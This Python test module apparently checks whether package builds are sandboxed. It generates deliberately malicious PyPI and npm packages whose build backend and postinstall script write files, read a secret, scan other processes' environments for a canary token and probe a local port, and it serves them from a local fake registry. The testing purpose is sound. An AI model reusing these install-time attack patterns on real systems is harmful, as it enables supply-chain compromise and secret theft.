"""Packages that attack the machine that builds them, made on the spot, and their targets."""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from archives import make_tar

CANARY = "gymcp-canary-7f3a"

_PYTHON = """
import glob, json, socket

def attack():
    loot = {}
    try:
        open(MARKER, "w").close()
        loot["wrote"] = True
    except OSError:
        loot["wrote"] = False
    try:
        loot["read"] = open(SECRET).read()
    except OSError:
        loot["read"] = None
    loot["environment"] = False
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            loot["environment"] = loot["environment"] or CANARY.encode() in open(path, "rb").read()
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=5).close()
        loot["connected"] = True
    except OSError:
        loot["connected"] = False
    return loot
"""
_BACKEND = """
import json, os, runpy, zipfile

def build_wheel(folder, settings=None, metadata=None):
    loot = runpy.run_path("setup.py")["attack"]()
    info = "gymcp_evil-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, "gymcp_evil-1.0-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("gymcp_evil.json", json.dumps(loot))
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: gymcp-evil\\nVersion: 1.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return "gymcp_evil-1.0-py3-none-any.whl"
"""
_PROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
_NODE = """
const fs = require("fs"), net = require("net"), loot = {};
try { fs.writeFileSync(MARKER, ""); loot.wrote = true; } catch { loot.wrote = false; }
try { loot.read = fs.readFileSync(SECRET, "utf8"); } catch { loot.read = null; }
loot.environment = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name)).some((name) => {
  try { return fs.readFileSync(`/proc/${name}/environ`, "utf8").includes(CANARY); } catch { return false; }
});
const done = (connected) => { fs.writeFileSync("loot.json", JSON.stringify({ ...loot, connected })); process.exit(0); };
const socket = net.connect(PORT, "127.0.0.1", () => { socket.destroy(); done(true); });
socket.on("error", () => done(false));
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Prey:
    """Targets of an attack: a folder to write to, a file, a secret in the environment of a process, a local service."""

    folder: Path
    port: int
    reached: threading.Event

    @property
    def marker(self) -> Path:
        return self.folder / "marker"

    def constants(self, declare: str = "") -> str:
        values = {"MARKER": str(self.marker), "SECRET": str(self.folder / "secret"), "CANARY": CANARY}
        return "".join(f"{declare}{name} = {json.dumps(value)}\n" for name, value in values.items()) + (
            f"{declare}PORT = {self.port}\n"
        )

    def taken(self, loot: dict[str, object]) -> list[str]:
        """Targets that the attack has reached, by its own report and by the traces it has left."""
        found = [name for name, value in loot.items() if value]
        return sorted({*found, *(["wrote"] * self.marker.exists()), *(["connected"] * self.reached.is_set())})


EVERYTHING = ["connected", "environment", "read", "wrote"]


@contextmanager
def prey(folder: Path) -> Iterator[Prey]:
    """All targets, which a process without a sandbox can reach."""
    folder.mkdir()
    (folder / "secret").write_text(CANARY)
    reached = threading.Event()
    holder = subprocess.Popen([sys.executable, "-S", "-c", "input()"], stdin=subprocess.PIPE, env={"TOKEN": CANARY})
    with holder, socket.create_server(("127.0.0.1", 0)) as listener:

        def accept() -> None:
            try:
                listener.accept()[0].close()
            except OSError:
                return
            reached.set()

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield Prey(folder=folder, port=listener.getsockname()[1], reached=reached)
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(timeout=60)
            holder.communicate(b"\n", timeout=60)


def write_sdist(folder: Path, victim: Prey) -> None:
    """Write ``gymcp-evil`` 1.0 to a folder that serves as an index. It brings its own build backend."""
    files = {"setup.py": victim.constants() + _PYTHON, "backend.py": _BACKEND, "pyproject.toml": _PROJECT}
    files["PKG-INFO"] = "Metadata-Version: 2.1\nName: gymcp-evil\nVersion: 1.0\n"
    folder.mkdir()
    (folder / "gymcp_evil-1.0.tar.gz").write_bytes(
        make_tar({f"gymcp_evil-1.0/{name}": text for name, text in files.items()})
    )


def npm_files(victim: Prey) -> dict[str, str]:
    """Files of npm's ``gymcp-evil`` 1.0, whose script attacks when it is installed."""
    return {"package.json": json.dumps(npm_manifest()), "attack.js": victim.constants("const ") + _NODE}


def npm_manifest() -> dict[str, object]:
    return {"name": "gymcp-evil", "version": "1.0.0", "scripts": {"postinstall": "node attack.js"}}


@contextmanager
def npm_registry(tarball: bytes, manifest: dict[str, object]) -> Iterator[str]:
    """The address of a registry on this machine that has one package."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            sha512 = base64.b64encode(hashlib.sha512(tarball).digest()).decode()
            dist = {"tarball": f"http://{self.headers['Host']}/evil.tgz", "integrity": f"sha512-{sha512}"}
            version = str(manifest["version"])
            about = {"name": manifest["name"], "dist-tags": {"latest": version}}
            about["versions"] = {version: {**manifest, "dist": dist}}
            found = tarball if self.path.endswith(".tgz") else json.dumps(about).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(found)))
            self.end_headers()
            self.wfile.write(found)

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join(timeout=10)
